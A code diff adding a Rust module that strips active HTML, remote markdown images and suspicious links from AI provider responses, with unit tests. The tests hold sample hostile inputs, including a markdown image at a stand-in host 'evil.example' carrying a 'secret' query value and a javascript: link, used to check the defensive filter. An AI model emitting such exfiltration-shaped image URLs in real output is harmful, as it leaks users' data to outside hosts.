@@ -0,0 +1,319 @@
+//! Sanitization of provider responses before they reach the client.
+//!
+//! Removes content that a client might render actively: HTML script-like
+//! elements, remote images (a common data exfiltration channel for injected
+//! prompts), and links with dangerous schemes or exfiltration-shaped URLs.
+//! Fenced code blocks are left untouched so code examples survive intact.
+
+use std::sync::OnceLock;
+
+use regex::{Captures, Regex};
+use serde::{Deserialize, Serialize};
+
+/// Maximum excerpt length recorded in reports.
+const EXCERPT_LEN: usize = 80;
+
+/// Policy controlling what is removed from responses.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SanitizationPolicy {
+    /// Whether sanitization is applied at all.
+    pub enabled: bool,
+    /// Strip `<script>`, `<iframe>`, `<object>`, `<embed>`, `<style>`, and `<img>` elements.
+    pub strip_active_html: bool,
+    /// Strip markdown images that load from remote hosts.
+    pub strip_remote_images: bool,
+    /// Hosts (and their subdomains) images may still load from.
+    pub allowed_image_hosts: Vec<String>,
+    /// Strip links with dangerous schemes, IP-literal hosts, or long query strings.
+    pub strip_suspicious_links: bool,
+    /// Query strings longer than this are treated as possible exfiltration.
+    pub max_query_length: usize,
+}
+
+impl Default for SanitizationPolicy {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            strip_active_html: true,
+            strip_remote_images: true,
+            allowed_image_hosts: Vec::new(),
+            strip_suspicious_links: true,
+            max_query_length: 100,
+        }
+    }
+}
+
+/// Kind of content removed from a response.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum RemovedKind {
+    /// Active HTML element.
+    ActiveHtml,
+    /// Remote image reference.
+    RemoteImage,
+    /// Suspicious link.
+    SuspiciousLink,
+}
+
+/// A single piece of removed content.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct RemovedItem {
+    /// What kind of content was removed.
+    pub kind: RemovedKind,
+    /// Excerpt of the removed content.
+    pub excerpt: String,
+}
+
+/// Sanitized text plus a report of what was removed.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SanitizationReport {
+    /// Sanitized text.
+    pub text: String,
+    /// Removed content, in order of appearance.
+    pub removed: Vec<RemovedItem>,
+}
+
+impl SanitizationReport {
+    /// Check if nothing was removed.
+    pub fn is_clean(&self) -> bool {
+        self.removed.is_empty()
+    }
+
+    /// Human-readable one-line summary of removed content.
+    pub fn summary(&self) -> String {
+        let count = |kind| self.removed.iter().filter(|r| r.kind == kind).count();
+        format!(
+            "removed {} active HTML element(s), {} remote image(s), {} suspicious link(s)",
+            count(RemovedKind::ActiveHtml),
+            count(RemovedKind::RemoteImage),
+            count(RemovedKind::SuspiciousLink)
+        )
+    }
+}
+
+/// Sanitize a response according to the policy.
+pub fn sanitize(text: &str, policy: &SanitizationPolicy) -> SanitizationReport {
+    let mut report = SanitizationReport {
+        text: String::with_capacity(text.len()),
+        removed: Vec::new(),
+    };
+
+    if !policy.enabled {
+        report.text = text.to_string();
+        return report;
+    }
+
+    let mut in_code = false;
+    let mut prose = String::new();
+    for line in text.split_inclusive('\n') {
+        if line.trim_start().starts_with("```") {
+            if !in_code {
+                report
+                    .text
+                    .push_str(&sanitize_prose(&prose, policy, &mut report.removed));
+                prose.clear();
+            }
+            in_code = !in_code;
+            report.text.push_str(line);
+        } else if in_code {
+            report.text.push_str(line);
+        } else {
+            prose.push_str(line);
+        }
+    }
+    report
+        .text
+        .push_str(&sanitize_prose(&prose, policy, &mut report.removed));
+
+    report
+}
+
+/// Sanitize text outside code fences.
+fn sanitize_prose(
+    text: &str,
+    policy: &SanitizationPolicy,
+    removed: &mut Vec<RemovedItem>,
+) -> String {
+    let mut text = text.to_string();
+
+    if policy.strip_active_html {
+        for re in [active_element_re(), active_tag_re()] {
+            text = replace_all(&text, re, RemovedKind::ActiveHtml, removed, |_| {
+                Some(String::new())
+            });
+        }
+    }
+
+    if policy.strip_remote_images {
+        text = replace_all(
+            &text,
+            markdown_image_re(),
+            RemovedKind::RemoteImage,
+            removed,
+            |c| {
+                let url = &c[2];
+                if is_remote(url) && !host_allowed(url, &policy.allowed_image_hosts) {
+                    Some(format!("[image removed: {}]", &c[1]))
+                } else {
+                    None
+                }
+            },
+        );
+    }
+
+    if policy.strip_suspicious_links {
+        text = replace_all(
+            &text,
+            markdown_link_re(),
+            RemovedKind::SuspiciousLink,
+            removed,
+            |c| {
+                is_suspicious_url(&c[2], policy.max_query_length)
+                    .then(|| format!("{} [link removed]", &c[1]))
+            },
+        );
+        text = replace_all(
+            &text,
+            script_uri_re(),
+            RemovedKind::SuspiciousLink,
+            removed,
+            |_| Some("[link removed]".into()),
+        );
+    }
+
+    text
+}
+
+/// Replace matches for which `replacement` returns `Some`, recording each removal.
+fn replace_all(
+    text: &str,
+    re: &Regex,
+    kind: RemovedKind,
+    removed: &mut Vec<RemovedItem>,
+    replacement: impl Fn(&Captures) -> Option<String>,
+) -> String {
+    re.replace_all(text, |c: &Captures| match replacement(c) {
+        Some(r) => {
+            removed.push(RemovedItem {
+                kind,
+                excerpt: c[0].chars().take(EXCERPT_LEN).collect(),
+            });
+            r
+        }
+        None => c[0].to_string(),
+    })
+    .into_owned()
+}
+
+/// Check if a URL points at a remote host.
+fn is_remote(url: &str) -> bool {
+    let lower = url.to_lowercase();
+    lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("//")
+}
+
+/// Extract the host from a URL.
+fn host(url: &str) -> Option<&str> {
+    let rest = url.split_once("//")?.1;
+    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+    let authority = &rest[..end];
+    let authority = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+    if authority.starts_with('[') {
+        return authority.split_once(']').map(|(h, _)| &h[1..]);
+    }
+    Some(authority.split(':').next().unwrap_or(authority))
+}
+
+/// Check if the URL's host is allowlisted.
+fn host_allowed(url: &str, allowed: &[String]) -> bool {
+    let Some(host) = host(url) else {
+        return false;
+    };
+    let host = host.to_lowercase();
+    allowed.iter().any(|a| {
+        let a = a.to_lowercase();
+        host == a || host.ends_with(&format!(".{}", a))
+    })
+}
+
+/// Check if a link URL looks dangerous.
+fn is_suspicious_url(url: &str, max_query_length: usize) -> bool {
+    let lower = url.to_lowercase();
+    if ["javascript:", "vbscript:", "data:"]
+        .iter()
+        .any(|s| lower.starts_with(s))
+    {
+        return true;
+    }
+
+    if let Some(host) = host(url) {
+        if host.parse::<std::net::IpAddr>().is_ok() {
+            return true;
+        }
+    }
+
+    url.split_once('?')
+        .is_some_and(|(_, q)| q.len() > max_query_length)
+}
+
+fn active_element_re() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r"(?is)<(script|iframe|object|embed|style)\b[^>]*>.*?</\s*(script|iframe|object|embed|style)\s*>")
+            .unwrap()
+    })
+}
+
+fn active_tag_re() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r"(?i)<(script|iframe|object|embed|img)\b[^>]*>").unwrap())
+}
+
+fn markdown_image_re() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| {
+        Regex::new(r#"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+"[^"]*")?\s*\)"#).unwrap()
+    })
+}
+
+fn markdown_link_re() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r#"\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+"[^"]*")?\s*\)"#).unwrap())
+}
+
+fn script_uri_re() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r#"(?i)\b(?:javascript|vbscript):[^\s)"'>]+"#).unwrap())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_strips_active_content() {
+        let text = "Hello <script>alert(1)</script>world\n\
+                    ![x](https://evil.example/p.png?d=secret)\n\
+                    [click](javascript:alert(1)) and [docs](https://docs.rs)";
+        let report = sanitize(text, &SanitizationPolicy::default());
+
+        assert!(!report.text.contains("<script>"));
+        assert!(!report.text.contains("evil.example"));
+        assert!(!report.text.contains("javascript:"));
+        assert!(report.text.contains("[docs](https://docs.rs)"));
+        assert_eq!(report.removed.len(), 3);
+    }
+
+    #[test]
+    fn test_preserves_code_blocks_and_allowed_images() {
+        let text = "```html\n<script>ok()</script>\n```\n![logo](https://img.example.com/a.png)";
+        let policy = SanitizationPolicy {
+            allowed_image_hosts: vec!["example.com".into()],
+            ..Default::default()
+        };
+        let report = sanitize(text, &policy);
+
+        assert_eq!(report.text, text);
+        assert!(report.is_clean());
+    }
+}